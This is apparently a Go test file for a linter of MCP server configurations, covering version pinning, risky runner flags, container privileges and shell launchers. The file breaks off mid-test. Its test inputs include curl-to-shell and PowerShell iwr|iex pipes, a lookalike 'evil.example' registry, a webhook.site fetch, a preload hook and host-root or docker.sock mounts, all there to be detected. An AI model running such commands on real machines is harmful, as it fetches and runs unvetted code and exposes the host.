package facts

import (
	"encoding/json"
	"math/rand/v2"
	"strconv"
	"strings"
	"testing"

	"github.com/mcplint/mcplint/loader"
	"github.com/mcplint/mcplint/secret"
)

// stdio builds a stdio server and its argument facts the way buildServer
// does.
func stdio(name, command string, args ...string) (*loader.Server, []ArgFact) {
	s := &loader.Server{Name: name, Client: "claude-code", Transport: "stdio", Command: command, Args: args, Pointer: "/mcpServers/" + name}
	masked := secret.MaskArgs(args)
	out := make([]ArgFact, len(args))
	for i := range args {
		out[i] = ArgFact{Index: i, Value: masked[i], Pointer: s.Pointer + "/args/" + strconv.Itoa(i)}
	}
	return s, out
}

func runnerOf(command string, args ...string) *RunnerFact {
	s, af := stdio("x", command, args...)
	return runnerFact(s, af)
}

func TestRunnerPackages(t *testing.T) {
	cases := []struct {
		cmd     string
		args    []string
		runner  string
		pkg     string
		version string
		problem string
		suggest string
		ptr     string // "" means /mcpServers/x/args/<last flag-free index> is not checked
	}{
		// npm runners: name@1.2.3 is the only exact form.
		{"npx", []string{"-y", "@modelcontextprotocol/server-github@2025.4.8"}, "npx", "@modelcontextprotocol/server-github", "2025.4.8", "", "", "/mcpServers/x/args/1"},
		{"npx", []string{"-y", "@modelcontextprotocol/server-github"}, "npx", "@modelcontextprotocol/server-github", "", "no-version", "@modelcontextprotocol/server-github@X.Y.Z", "/mcpServers/x/args/1"},
		{"npx", []string{"--yes", "acme-mcp@latest", "--port", "3"}, "npx", "acme-mcp", "latest", "latest", "acme-mcp@X.Y.Z", "/mcpServers/x/args/1"},
		{"npx", []string{"acme-mcp@^1.4.0"}, "npx", "acme-mcp", "^1.4.0", "range", "acme-mcp@1.4.0", ""},
		{"npx", []string{"acme-mcp@~0.6"}, "npx", "acme-mcp", "~0.6", "range", "acme-mcp@X.Y.Z", ""},
		{"npx", []string{"acme-mcp@1"}, "npx", "acme-mcp", "1", "range", "acme-mcp@X.Y.Z", ""},
		{"npx", []string{"acme-mcp@1.2.x"}, "npx", "acme-mcp", "1.2.x", "range", "acme-mcp@X.Y.Z", ""},
		{"npx", []string{"acme-mcp@*"}, "npx", "acme-mcp", "*", "any", "acme-mcp@X.Y.Z", ""},
		{"npx", []string{"acme-mcp@next"}, "npx", "acme-mcp", "next", "dist-tag", "acme-mcp@X.Y.Z", ""},
		{"npx", []string{"acme-mcp@1.2.3-beta.1"}, "npx", "acme-mcp", "1.2.3-beta.1", "", "", ""},
		{"npx", []string{"-y", "github:acme/acme-mcp"}, "npx", "github:acme/acme-mcp", "", "git", "github:acme/acme-mcp#<commit>", ""},
		{"npx", []string{"acme/acme-mcp"}, "npx", "acme/acme-mcp", "", "git", "acme/acme-mcp#<commit>", ""},
		{"npx", []string{"git+https://github.com/acme/acme-mcp.git"}, "npx", "git+https://github.com/acme/acme-mcp.git", "", "git", "git+https://github.com/acme/acme-mcp.git#<commit>", ""},
		{"npx", []string{"git+https://github.com/acme/acme-mcp.git#v1.2.0"}, "npx", "git+https://github.com/acme/acme-mcp.git#v1.2.0", "", "git", "git+https://github.com/acme/acme-mcp.git#<commit>", ""},
		{"npx", []string{"github:acme/acme-mcp#3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a"}, "npx", "github:acme/acme-mcp#3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a", "", "", "", ""},
		{"npx", []string{"https://example.com/acme-mcp-1.0.0.tgz"}, "npx", "https://example.com/acme-mcp-1.0.0.tgz", "", "address", "acme-mcp@X.Y.Z", ""},
		{"npx", []string{"-p", "acme-mcp@1.0.0", "acme"}, "npx", "acme-mcp", "1.0.0", "", "", "/mcpServers/x/args/1"},
		{"npx", []string{"--package=@acme/mcp", "acme"}, "npx", "@acme/mcp", "", "no-version", "@acme/mcp@X.Y.Z", "/mcpServers/x/args/0"},
		{"/usr/local/bin/npx", []string{"-y", "acme-mcp@2.0.1"}, "npx", "acme-mcp", "2.0.1", "", "", ""},
		{"npx.cmd", []string{"acme-mcp"}, "npx", "acme-mcp", "", "no-version", "acme-mcp@X.Y.Z", ""},
		{"bunx", []string{"acme-mcp@1.0.0"}, "bunx", "acme-mcp", "1.0.0", "", "", ""},
		{"deno", []string{"run", "-A", "npm:@playwright/mcp@latest"}, "deno", "@playwright/mcp", "latest", "latest", "npm:@playwright/mcp@X.Y.Z", "/mcpServers/x/args/2"},
		// .NET's dnx
		{"dnx", []string{"Microsoft.AITools.BinlogMcp", "--yes", "--prerelease"}, "dnx", "Microsoft.AITools.BinlogMcp", "", "no-version", "Microsoft.AITools.BinlogMcp@X.Y.Z", "/mcpServers/x/args/0"},
		{"dotnet", []string{"dnx", "Acme.Mcp@1.2.3", "--yes"}, "dnx", "Acme.Mcp", "1.2.3", "", "", "/mcpServers/x/args/1"},
		{"dnx", []string{"--version", "0.4.0", "Acme.Mcp"}, "dnx", "Acme.Mcp", "0.4.0", "", "", "/mcpServers/x/args/2"},
		// a wrapper that hands over to the command after "--"
		{"pp", []string{"--env-file", ".env", "--", "npx", "-y", "@perplexity-ai/mcp-server"}, "npx", "@perplexity-ai/mcp-server", "", "no-version", "@perplexity-ai/mcp-server@X.Y.Z", "/mcpServers/x/args/5"},
		{"dotenv", []string{"-e", ".env", "--", "uvx", "mcp-server-git==2025.1.14"}, "uvx", "mcp-server-git", "==2025.1.14", "", "", "/mcpServers/x/args/4"},
		{"deno", []string{"run", "--config", "deno.json", "npm:acme-mcp@1.2.3"}, "deno", "acme-mcp", "1.2.3", "", "", "/mcpServers/x/args/3"},
		{"pnpx", []string{"acme-mcp"}, "pnpx", "acme-mcp", "", "no-version", "acme-mcp@X.Y.Z", ""},
		{"pnpm", []string{"dlx", "acme-mcp@latest"}, "pnpm dlx", "acme-mcp", "latest", "latest", "acme-mcp@X.Y.Z", ""},
		{"npm", []string{"exec", "--yes", "--", "@acme/mcp@3.1.4"}, "npm exec", "@acme/mcp", "3.1.4", "", "", "/mcpServers/x/args/3"},
		{"npm", []string{"x", "@acme/mcp"}, "npm exec", "@acme/mcp", "", "no-version", "@acme/mcp@X.Y.Z", ""},
		{"npx", []string{"./tools/acme-mcp"}, "npx", "./tools/acme-mcp", "", "", "", ""},
		// A whole command line in command, and Windows wrappers.
		{"npx -y acme-mcp@latest", nil, "npx", "acme-mcp", "latest", "latest", "acme-mcp@X.Y.Z", "/mcpServers/x/command"},
		{"cmd", []string{"/c", "npx", "-y", "acme-mcp"}, "npx", "acme-mcp", "", "no-version", "acme-mcp@X.Y.Z", "/mcpServers/x/args/3"},
		{"cmd.exe", []string{"/C", "npx -y acme-mcp@1.0.0"}, "npx", "acme-mcp", "1.0.0", "", "", "/mcpServers/x/args/1"},
		{"sh", []string{"-c", "exec npx -y acme-mcp@latest"}, "npx", "acme-mcp", "latest", "latest", "acme-mcp@X.Y.Z", "/mcpServers/x/args/1"},
		{"env", []string{"FOO=1", "uvx", "mcp-server-fetch"}, "uvx", "mcp-server-fetch", "", "no-version", "mcp-server-fetch==X.Y.Z", "/mcpServers/x/args/2"},
		// Python runners: name==1.2.3 (uv also reads name@1.2.3).
		{"uvx", []string{"mcp-server-fetch==1.0.0"}, "uvx", "mcp-server-fetch", "==1.0.0", "", "", ""},
		{"uvx", []string{"mcp-server-fetch"}, "uvx", "mcp-server-fetch", "", "no-version", "mcp-server-fetch==X.Y.Z", ""},
		{"uvx", []string{"mcp-server-fetch@1.0.0"}, "uvx", "mcp-server-fetch", "@1.0.0", "", "", ""},
		{"uvx", []string{"mcp-server-fetch@latest"}, "uvx", "mcp-server-fetch", "@latest", "latest", "mcp-server-fetch==X.Y.Z", ""},
		{"uvx", []string{"mcp-server-fetch>=1.0"}, "uvx", "mcp-server-fetch", ">=1.0", "range", "mcp-server-fetch==X.Y.Z", ""},
		{"uvx", []string{"mcp-server-fetch~=1.2.0"}, "uvx", "mcp-server-fetch", "~=1.2.0", "range", "mcp-server-fetch==1.2.0", ""},
		{"uvx", []string{"mcp-server-fetch==1.*"}, "uvx", "mcp-server-fetch", "==1.*", "range", "mcp-server-fetch==X.Y.Z", ""},
		{"uvx", []string{"awslabs.aws-mcp[cli]==0.3.1"}, "uvx", "awslabs.aws-mcp", "==0.3.1", "", "", ""},
		{"uvx", []string{"-p", "3.12", "mcp-server-git"}, "uvx", "mcp-server-git", "", "no-version", "mcp-server-git==X.Y.Z", "/mcpServers/x/args/2"},
		{"uvx", []string{"--from", "mcp-server-fetch==2.0.0", "mcp-server-fetch"}, "uvx", "mcp-server-fetch", "==2.0.0", "", "", "/mcpServers/x/args/1"},
		{"uvx", []string{"--from", "git+https://github.com/acme/acme-mcp", "acme-mcp"}, "uvx", "git+https://github.com/acme/acme-mcp", "", "git", "git+https://github.com/acme/acme-mcp@<commit>", "/mcpServers/x/args/1"},
		{"uvx", []string{"--from", "git+https://github.com/acme/acme-mcp@3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a", "acme-mcp"}, "uvx", "git+https://github.com/acme/acme-mcp@3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a", "", "", "", "/mcpServers/x/args/1"},
		{"uvx", []string{"--from", "acme-mcp @ https://example.com/acme.whl", "acme"}, "uvx", "acme-mcp @ https://example.com/acme.whl", "", "address", "acme-mcp==X.Y.Z", ""},
		{"uv", []string{"tool", "run", "mcp-server-time==0.6.2"}, "uv tool run", "mcp-server-time", "==0.6.2", "", "", ""},
		{"uv", []string{"tool", "run", "mcp-server-time"}, "uv tool run", "mcp-server-time", "", "no-version", "mcp-server-time==X.Y.Z", ""},
		{"pipx", []string{"run", "mcp-server-time==0.6.2"}, "pipx run", "mcp-server-time", "==0.6.2", "", "", ""},
		{"pipx", []string{"run", "--spec", "mcp-server-time>=0.6", "mcp-server-time"}, "pipx run", "mcp-server-time", ">=0.6", "range", "mcp-server-time==X.Y.Z", "/mcpServers/x/args/2"},
		// docker: a digest pins, a tag alone does not.
		{"docker", []string{"run", "-i", "--rm", "-e", "GITHUB_TOKEN", "ghcr.io/github/github-mcp-server"}, "docker run", "ghcr.io/github/github-mcp-server", "", "no-tag", "ghcr.io/github/github-mcp-server:X.Y.Z@sha256:<digest>", "/mcpServers/x/args/5"},
		{"docker", []string{"run", "-i", "--rm", "mcp/fetch:latest"}, "docker run", "mcp/fetch", "latest", "latest", "mcp/fetch:X.Y.Z@sha256:<digest>", ""},
		{"docker", []string{"run", "-i", "--rm", "mcp/fetch:1.2"}, "docker run", "mcp/fetch", "1.2", "tag-only", "mcp/fetch:1.2@sha256:<digest>", ""},
		{"docker", []string{"run", "-i", "mcp/fetch:1.2@sha256:" + strings.Repeat("ab", 32)}, "docker run", "mcp/fetch", "1.2@sha256:" + strings.Repeat("ab", 32), "", "", ""},
		{"docker", []string{"run", "-i", "localhost:5000/acme/mcp"}, "docker run", "localhost:5000/acme/mcp", "", "no-tag", "localhost:5000/acme/mcp:X.Y.Z@sha256:<digest>", ""},
		{"podman", []string{"container", "run", "--network=host", "-v", "/data:/data", "quay.io/acme/mcp:2.0"}, "docker run", "quay.io/acme/mcp", "2.0", "tag-only", "quay.io/acme/mcp:2.0@sha256:<digest>", "/mcpServers/x/args/5"},
	}
	for _, c := range cases {
		rf := runnerOf(c.cmd, c.args...)
		label := c.cmd + " " + strings.Join(c.args, " ")
		if rf == nil {
			t.Errorf("%s: no runner fact", label)
			continue
		}
		if rf.Runner != c.runner || rf.Package != c.pkg || rf.Version != c.version || rf.Problem != c.problem || rf.Suggestion != c.suggest {
			t.Errorf("%s:\n got runner=%q package=%q version=%q problem=%q suggestion=%q\nwant runner=%q package=%q version=%q problem=%q suggestion=%q",
				label, rf.Runner, rf.Package, rf.Version, rf.Problem, rf.Suggestion, c.runner, c.pkg, c.version, c.problem, c.suggest)
		}
		if c.ptr != "" && rf.PackagePointer != c.ptr {
			t.Errorf("%s: package pointer %q, want %q", label, rf.PackagePointer, c.ptr)
		}
	}
}

func TestNotARunner(t *testing.T) {
	for _, c := range [][]string{
		{"node", "/opt/acme/server.js"},
		{"python", "-m", "acme_mcp"},
		{"npm", "run", "serve"},
		{"uv", "run", "server.py"},
		{"docker", "exec", "-i", "acme", "mcp"},
		{"bash", "/opt/acme/start.sh"},
		{"/Applications/Acme Tools/bin/acme-mcp"},
		{"deno", "run", "-A", "./server.ts"},
		{"deno", "task", "mcp"},
	} {
		if rf := runnerOf(c[0], c[1:]...); rf != nil {
			t.Errorf("%v: got runner %+v, want none", c, rf)
		}
	}
	// A remote server has no runner.
	s := &loader.Server{Name: "r", Transport: "http", URL: "https://mcp.example.com/mcp", Pointer: "/mcpServers/r"}
	if rf := runnerFact(s, nil); rf != nil {
		t.Errorf("remote server: got %+v", rf)
	}
}

func flagNames(fs []FlagFact) string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Flag+"@"+strconv.Itoa(f.Index))
	}
	return strings.Join(out, " ")
}

func TestRunnerFlags(t *testing.T) {
	cases := []struct {
		cmd  string
		args []string
		want string
	}{
		{"npx", []string{"-y", "-p", "acme-mcp@1.0.0", "acme"}, "-p@1"},
		{"npx", []string{"--package=acme-mcp@1.0.0", "acme"}, "--package@0"},
		{"npx", []string{"--registry", "https://npm.acme.dev", "acme-mcp@1.0.0"}, "--registry@0"},
		{"npx", []string{"--@acme:registry=https://npm.acme.dev", "@acme/mcp@1.0.0"}, "--@acme:registry@0"},
		// the public registry and PyPI's own index are where the runner fetches anyway
		{"npx", []string{"--registry", "https://registry.npmjs.org", "@playwright/mcp@0.0.41"}, ""},
		{"npx", []string{"--registry=https://registry.npmjs.org/", "-y", "acme-mcp@1.0.0"}, ""},
		{"uvx", []string{"--index-url", "https://pypi.org/simple", "acme-mcp==1.0.0"}, ""},
		{"npx", []string{"--registry", "https://registry.npmjs.org.evil.example", "acme-mcp@1.0.0"}, "--registry@0"},
		{"npx", []string{"-c", "curl https://x.example/install | sh"}, "-c@0"},
		{"npx", []string{"--call", "acme serve"}, "--call@0"},
		{"npm", []string{"exec", "--node-options=--require=/tmp/hook.js", "acme-mcp@1.0.0"}, "--node-options@1"},
		// flags after the package belong to the server
		{"npx", []string{"-y", "acme-mcp@1.0.0", "--registry", "https://x"}, ""},
		{"npx", []string{"-y", "acme-mcp@1.0.0", "-c", "config.json"}, ""},
		{"uvx", []string{"--index-url", "https://pypi.acme.dev/simple", "acme-mcp==1.0.0"}, "--index-url@0"},
		{"uvx", []string{"--extra-index-url=https://pypi.acme.dev/simple", "acme-mcp==1.0.0"}, "--extra-index-url@0"},
		{"uvx", []string{"-i", "https://pypi.acme.dev/simple", "acme-mcp==1.0.0"}, "-i@0"},
		{"uvx", []string{"--with", "requests", "acme-mcp==1.0.0"}, "--with@0"},
		// an address is reported by unpinned-package, once
		{"uvx", []string{"--from", "git+https://github.com/acme/mcp", "acme-mcp"}, ""},
		// the package's own program: the package named is the one shown
		{"npx", []string{"-y", "--package=task-master-ai@0.27.1", "task-master-ai"}, ""},
		{"npx", []string{"-y", "-p", "@acme/tool-mcp@1.0.0", "tool-mcp"}, ""},
		{"uvx", []string{"--from", "acme-mcp==1.0.0", "acme-mcp"}, ""},
		{"uvx", []string{"-p", "3.12", "acme-mcp==1.0.0"}, ""},
		{"uvx", []string{"-c", "constraints.txt", "acme-mcp==1.0.0"}, ""},
		{"pipx", []string{"run", "--index-url", "https://pypi.acme.dev/simple", "acme-mcp==1.0.0"}, "--index-url@1"},
		{"pipx", []string{"run", "--spec", "git+https://github.com/acme/mcp", "acme"}, ""},
		{"pipx", []string{"run", "--pip-args=--extra-index-url https://x.example", "acme-mcp==1.0.0"}, "--pip-args@1"},
		{"pipx", []string{"run", "--pip-args=--no-cache-dir", "acme-mcp==1.0.0"}, ""},
		{"docker", []string{"run", "-i", "--rm", "mcp/fetch:1@sha256:" + strings.Repeat("ab", 32)}, ""},
	}
	for _, c := range cases {
		rf := runnerOf(c.cmd, c.args...)
		if rf == nil {
			t.Errorf("%s %v: no runner", c.cmd, c.args)
			continue
		}
		if got := flagNames(rf.Flags); got != c.want {
			t.Errorf("%s %v: flags %q, want %q", c.cmd, c.args, got, c.want)
		}
		for _, f := range rf.Flags {
			if f.Why == "" || f.Pointer == "" {
				t.Errorf("%s %v: flag %+v lacks why or pointer", c.cmd, c.args, f)
			}
		}
	}
}

func TestContainerPrivileges(t *testing.T) {
	img := "mcp/fs:1@sha256:" + strings.Repeat("ab", 32)
	cases := []struct {
		args []string
		want string
	}{
		{[]string{"run", "--privileged", img}, "--privileged@1"},
		{[]string{"run", "--privileged=false", img}, ""},
		{[]string{"run", "--network", "host", img}, "--network host@2"},
		{[]string{"run", "--net=host", img}, "--net host@1"},
		{[]string{"run", "--network", "bridge", img}, ""},
		{[]string{"run", "--pid=host", img}, "--pid host@1"},
		{[]string{"run", "-v", "/:/host", img}, "-v /:/host@2"},
		{[]string{"run", "-v", "/etc:/etc:ro", img}, "-v /etc:/etc:ro@2"},
		{[]string{"run", "-v", "/etc/ssl/certs:/etc/ssl/certs:ro", img}, ""},
		{[]string{"run", "-v", "$HOME:/home/me", img}, "-v $HOME:/home/me@2"},
		{[]string{"run", "--volume=~:/root", img}, "--volume ~:/root@1"},
		{[]string{"run", "-v", "/var/run/docker.sock:/var/run/docker.sock", img}, "-v /var/run/docker.sock:/var/run/docker.sock@2"},
		{[]string{"run", "--mount", "type=bind,source=/,target=/host", img}, "--mount type=bind,source=/,target=/host@2"},
		{[]string{"run", "--mount", "type=bind,src=/Users/me/projects,dst=/projects", img}, ""},
		{[]string{"run", "-v", "C:\\:/c", img}, "-v C:\\:/c@2"},
		{[]string{"run", "--cap-add", "SYS_ADMIN", img}, "--cap-add SYS_ADMIN@2"},
		{[]string{"run", "--security-opt", "seccomp=unconfined", img}, "--security-opt seccomp=unconfined@2"},
		// after the image, flags belong to the container's program
		{[]string{"run", img, "--privileged"}, ""},
	}
	for _, c := range cases {
		rf := runnerOf("docker", c.args...)
		if rf == nil {
			t.Errorf("%v: no runner", c.args)
			continue
		}
		if got := flagNames(rf.Privileges); got != c.want {
			t.Errorf("%v: privileges %q, want %q", c.args, got, c.want)
		}
	}
}

func shellOf(name, cmd string, args ...string) *ShellFact {
	s, af := stdio(name, cmd, args...)
	return shellFact(s, af, runnerFact(s, af), nil)
}

func TestShellFacts(t *testing.T) {
	cases := []struct {
		cmd      string
		args     []string
		launcher string
		pipe     string // downloader|interpreter
		subst    bool
		ptr      string
	}{
		{"sh", []string{"-lc", "exec acme-mcp"}, "sh -c", "", false, "/mcpServers/x/args/1"},
		{"/bin/zsh", []string{"-e", "-c", "acme-mcp"}, "zsh -c", "", false, "/mcpServers/x/args/2"},
		{"bash", []string{"-c", "curl -fsSL https://get.acme.dev/install.sh | bash"}, "bash -c", "curl|bash", false, "/mcpServers/x/args/1"},
		{"sh", []string{"-c", "wget -qO- https://get.acme.dev | sudo -E sh -s -- --yes"}, "sh -c", "wget|sh", false, "/mcpServers/x/args/1"},
		{"bash", []string{"-c", "$(curl -fsSL https://get.acme.dev/run.sh)"}, "bash -c", "curl|bash", true, "/mcpServers/x/args/1"},
		{"bash", []string{"-c", "source <(curl -s https://get.acme.dev/env)"}, "bash -c", "curl|source", false, "/mcpServers/x/args/1"},
		{"sh", []string{"-c", "acme-mcp --token `curl -s https://acme.example/t`"}, "sh -c", "", true, "/mcpServers/x/args/1"},
		{"sh", []string{"-c", "exec $(cat ~/.acme/launcher)"}, "sh -c", "", true, "/mcpServers/x/args/1"},
		// cmd /c around a download tool is no server wrapper
		{"cmd.exe", []string{"/c", "curl https://webhook.site/3e5b8c1d"}, "cmd /c", "", false, "/mcpServers/x/args/1"},
		// shells behind wrappers
		{"wsl.exe", []string{"-d", "Ubuntu", "bash", "-c", "source ~/.venv/bin/activate; python -m acme"}, "wsl … bash -c", "", false, "/mcpServers/x/args/4"},
		{"docker", []string{"run", "-i", "--rm", "-e", "A=1", "node:22", "sh", "-c", "npm i -g acme && acme"}, "docker run … sh -c", "", false, "/mcpServers/x/args/8"},
		{"env", []string{"NODE_ENV=production", "bash", "-c", "acme-mcp | tee log.txt"}, "env … bash -c", "", false, "/mcpServers/x/args/3"},
		{"cmd", []string{"/c", "bash", "-c", "acme-mcp || true"}, "cmd … bash -c", "", false, "/mcpServers/x/args/3"},
		{"powershell", []string{"-NoProfile", "-Command", "iwr https://get.acme.dev/install.ps1 | iex"}, "powershell -Command", "iwr|iex", false, "/mcpServers/x/args/2"},
		{"pwsh", []string{"-c", "iex (irm https://get.acme.dev)"}, "pwsh -Command", "irm|iex", false, "/mcpServers/x/args/1"},
		{"powershell", []string{"-EncodedCommand", "SQBFAFgA"}, "powershell -EncodedCommand", "", false, "/mcpServers/x/args/1"},
		{"cmd", []string{"/c", "npx -y acme-mcp@1.0.0 && echo done"}, "cmd /c", "", false, "/mcpServers/x/args/1"},
		{"curl -fsSL https://get.acme.dev | sh", nil, "", "curl|sh", false, "/mcpServers/x/command"},
	}
	for _, c := range cases {
		sh := shellOf("x", c.cmd, c.args...)
		label := c.cmd + " " + strings.Join(c.args, " ")
		if sh == nil {
			t.Errorf("%s: no shell fact", label)
			continue
		}
		pipe := ""
		if sh.PipeToInterpreter {
			pipe = sh.Downloader + "|" + sh.Interpreter
		}
		if sh.Launcher != c.launcher || pipe != c.pipe || sh.CommandSubstitution != c.subst || sh.Pointer != c.ptr {
			t.Errorf("%s:\n got launcher=%q pipe=%q subst=%v pointer=%q\nwant launcher=%q pipe=%q subst=%v pointer=%q",
				label, sh.Launcher, pipe, sh.CommandSubstitution, sh.Pointer, c.launcher, c.pipe, c.subst, c.ptr)
		}
	}
	// Nothing to say: plain programs, and cmd /c around one command (the
	// Windows wrapper for npx).
	for _, c := range [][]string{
		{"npx", "-y", "acme-mcp@1.0.0"},
		{"cmd", "/c", "npx", "-y", "acme-mcp@1.0.0"},
		{"cmd", "/c", "npx -y acme-mcp@1.0.0"},
		{"bash", "/opt/acme/start.sh"},
		{"node", "server.js", "--name", "$(not a shell)"},
		{"python", "-c", "import acme; acme.main()"},
		// set-up that reads values, then one program: what runs is that program
		{"bash", "-c", "cd /opt/acme && node server.js"},
		{"bash", "-c", "GITHUB_TOKEN=$(gh auth token) exec npx -y acme-mcp@1.0.0"},
		{"sh", "-c", `cd "$(git rev-parse --show-toplevel)" && exec uv run acme-mcp`},
		{"sh", "-c", "acme-mcp --token `cat ~/.acme`"},
		// a login shell, and a script file of the repository launched by a shell
		{"bash", "-lc", `cd "$(git rev-parse --show-toplevel)" && exec bash scripts/mcp-launch.sh`},
		{"sh", "-c", "cd /opt/acme && exec sh ./start.sh --stdio"},
	} {
		if sh := shellOf("x", c[0], c[1:]...); sh != nil {
			t.Errorf("%v: got %+v, want nil", c, sh)
		}
	}
}

func TestBroadFilesystem(t *testing.T) {
	cases := []struct {
		name string
		cmd  string
		args []string
		want string
	}{
		{"fs", "npx", []string{"-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/"}, "/@2"},
		{"fs", "npx", []string{"-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "~", "/tmp"}, "~@2"},
		{"fs", "npx", []string{"-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/Users/me/projects", "/Users/me"}, "/Users/me@3"},
		{"fs", "npx", []string{"-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "${HOME}"}, "${HOME}@2"},
		{"fs", "npx", []string{"-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "C:\\"}, "C:\\@2"},
		{"files", "mcp-filesystem-server", []string{"--root=/"}, "/@0"},
		{"filesystem", "node", []string{"/opt/fs/index.js", "$HOME"}, "$HOME@1"},
		{"fs", "npx", []string{"-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/Users/me/projects"}, ""},
		{"github", "npx", []string{"-y", "@modelcontextprotocol/server-github@2025.4.8", "/"}, ""},
	}
	for _, c := range cases {
		sh := shellOf(c.name, c.cmd, c.args...)
		got := ""
		if sh != nil {
			got = flagNames(sh.BroadPaths)
			for _, b := range sh.BroadPaths {
				if b.Why == "" {
					t.Errorf("%v: broad path without why", c.args)
				}
			}
		}
		if got != c.want {
			t.Errorf("%s %s %v: broad paths %q, want %q", c.name, c.cmd, c.args, got, c.want)
		}
	}
}

func TestSplitCommandLine(t *testing.T) {
	got := strings.Join(splitCommandLine(`npx -y "a b" 'c d' e\ f x&&y|z`), ",")
	want := "npx,-y,a b,c d,e f,x,&&,y,|,z"
	if got != want {
		t.Errorf("splitCommandLine = %q, want %q", got, want)
	}
}

// TestRunnerFactsAreMasked: a key in a runner argument never reaches the
// runner facts in the clear.
func TestRunnerFactsAreMasked(t *testing.T) {
	key := "ghp_" + "62d8o7XYua9hdTsU0dFW5VjIlbDG5UspWmKr"
	rf := runnerOf("npx", "-y", "--registry", "https://user:"+key+"@npm.acme.dev", "acme-mcp")
	sh := shellOf("x", "bash", "-c", "curl -H 'Authorization: Bearer "+key+"' https://get.acme.dev | sh")
	for _, v := range []any{rf, sh} {
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(b), key) || strings.Contains(string(b), key[4:]) {
			t.Errorf("facts hold the key: %s", b)
		}
	}
	if rf == nil || sh == nil || !sh.PipeToInterpreter || len(rf.Flags) != 1 {
		t.Errorf("facts missing: %+v %+v", rf, sh)
	}
}

func TestMachinePaths(t *testing.T) {
	cases := []struct {
		cmd  string
		args []string
		want int
	}{
		{"node", []string{"/Users/dana/code/notes/dist/index.js"}, 1},
		{"uvx", []string{"history-mcp==0.4.1", "--db=/home/lee/.config/Cursor/User/workspaceStorage/4b1c2d3e/state.vscdb"}, 1},
		{"C:/Program Files/nodejs/node.exe", []string{`D:\work\notes\index.js`}, 1},
		{"node", []string{"./tools/notes/dist/index.js", "${workspaceFolder}/x"}, 0},
		// a local web server's document root
		{"php", []string{"/Applications/XAMPP/xamppfiles/htdocs/bet/backend/artisan", "mcp"}, 1},
		{"php", []string{"/opt/lampp/htdocs/shop/mcp.php"}, 1},
		// a WSL distribution's share
		{"node", []string{`\\wsl$\Debian\home\jo\app\index.js`}, 1},
		{"node", []string{"//wsl.localhost/Ubuntu/home/jo/app/index.js"}, 1},
		// a Codespace's or dev container's project folder, and a checkout root
		{"/workspaces/news-agents/.venv/bin/python", []string{"-m", "src.main"}, 1},
		{"node", []string{"/workspace/notes/dist/index.js", "/workspaces"}, 1},
		{"powershell", []string{"-Command", `Set-Location C:\tools; .\x.exe`}, 0},
		// after the image, a path is the container's own
		{"docker", []string{"run", "-i", "--rm", "-v", "/Users/dana/data:/data", "acme/x:1@sha256:" + strings.Repeat("ab", 32), "--root", "/home/node/app"}, 1},
	}
	for _, c := range cases {
		s, af := stdio("x", c.cmd, c.args...)
		sf := ServerFact{Args: af, Command: &CommandFact{Value: c.cmd, Pointer: "/mcpServers/x/command"}}
		sf.Runner = runnerFact(s, af)
		if got := machinePaths(s, &sf); len(got) != c.want {
			t.Errorf("%s %v: %d machine paths %v, want %d", c.cmd, c.args, len(got), got, c.want)
		}
	}
}

func TestListenAllAndPlainArgs(t *testing.T) {
	listen := []struct {
		cmd  string
		args []string
		want string
	}{
		{"uvx", []string{"srv==1.0.0", "--host", "0.0.0.0", "--port", "8811"}, "--host 0.0.0.0"},
		{"uvx", []string{"srv==1.0.0", "--bind=0.0.0.0:8080"}, "--bind 0.0.0.0:8080"},
		{"docker", []string{"run", "-i", "-p", "0.0.0.0:8080:8080", "img:1@sha256:" + strings.Repeat("ab", 32)}, "-p 0.0.0.0:8080:8080"},
		{"uvx", []string{"srv==1.0.0", "--host", "127.0.0.1"}, ""},
		{"docker", []string{"run", "-i", "-p", "8080:8080", "img:1@sha256:" + strings.Repeat("ab", 32)}, ""},
	}
	for _, c := range listen {
		s, af := stdio("x", c.cmd, c.args...)
		sf := ServerFact{Args: af}
		sf.Runner = runnerFact(s, af)
		got := ""
		for _, a := range listenAll(&sf) {
			got = a.Value
		}
		if got != c.want {
			t.Errorf("%s %v: listen %q, want %q", c.cmd, c.args, got, c.want)
		}
	}
	sf := ServerFact{Env: []PairFact{{Key: "HOST", Value: "0.0.0.0", Pointer: "/e"}}}
	if got := listenAll(&sf); len(got) != 1 || got[0].Pointer != "/e" {
		t.Errorf("HOST=0.0.0.0: %v", got)
	}
	plain := map[string]int{
		"http://tools.example.com:5000/mcp": 1, "--url=http://search.example.com/sse": 1, "ws://x.example.com/": 1,
		"http://127.0.0.1:3333/sse": 0, "http://jenkins:8080/mcp": 0, "http://10.1.2.3/mcp": 0, "http://kb.corp.internal/": 0,
		"https://tools.example.com/mcp": 0, "http://${HOST}/mcp": 0,
	}
	for arg, want := range plain {
		_, af := stdio("x", "npx", "-y", "mcp-remote@0.1.29", arg)
		if got := len(plainArgAddresses(af)); got != want {
			t.Errorf("%s: %d plain addresses, want %d", arg, got, want)
		}
	}
}

// pipeInfoByPatterns is pipeInfo without its pre-filters: the three
// patterns alone decide.
func pipeInfoByPatterns(text string) (string, string, bool) {
	if m := pipeRe.FindStringSubmatch(text); m != nil {
		return strings.ToLower(m[1]), strings.ToLower(m[2]), true
	}
	if m := procSubRe.FindStringSubmatch(text); m != nil {
		return strings.ToLower(m[2]), strings.ToLower(m[1]), true
	}
	if m := iexRe.FindStringSubmatch(text); m != nil {
		d := strings.ToLower(m[2])
		if strings.HasPrefix(d, "new-object") {
			d = "Net.WebClient"
		}
		return d, strings.ToLower(m[1]), true
	}
	return "", "", false
}

// TestPipeInfoPrefilter checks the word and byte checks in front of the
// pipe patterns: texts on each side of every check get the answer the
// patterns alone give, and the ones that match are found.
func TestPipeInfoPrefilter(t *testing.T) {
	found := []string{
		"curl -fsSL https://x.dev/i.sh | bash",            // pipe
		"CURL -s https://x.dev | SUDO -E SH",              // pipe, upper case
